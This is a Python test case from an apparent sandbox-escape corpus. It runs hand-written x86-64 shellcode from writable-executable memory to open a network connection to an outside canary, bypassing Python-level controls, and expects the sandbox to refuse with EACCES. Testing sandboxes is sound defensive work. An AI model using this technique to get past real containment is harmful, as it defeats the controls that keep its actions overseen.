"""Machine code makes the connection that no Python function would.

attacks: everything above the kernel
effect: the canary outside accepts a connection
refused: EACCES
topic: escape corpus, memory: W+X mmap shellcode
"""

import ctypes
import os

from kit import address, attempt, machine_code, sockaddr

NAME = sockaddr(*address())
CODE = (b"\x53\x48\x89\xfb"      # push rbx; mov rbx, rdi
        b"\xb8\x29\x00\x00\x00"  # mov eax, 41 (socket)
        b"\xbf\x02\x00\x00\x00"  # mov edi, AF_INET
        b"\xbe\x01\x00\x00\x00"  # mov esi, SOCK_STREAM
        b"\x31\xd2\x0f\x05"      # xor edx, edx; syscall
        b"\x89\xc7"              # mov edi, eax
        b"\x48\x89\xde"          # mov rsi, rbx
        b"\xba\x10\x00\x00\x00"  # mov edx, 16
        b"\xb8\x2a\x00\x00\x00"  # mov eax, 42 (connect)
        b"\x0f\x05\x5b\xc3")     # syscall; pop rbx; ret

with attempt():
    result = machine_code(CODE, ctypes.c_long, ctypes.c_char_p)(NAME)
    if result < 0:
        raise OSError(-result, os.strerror(-result))
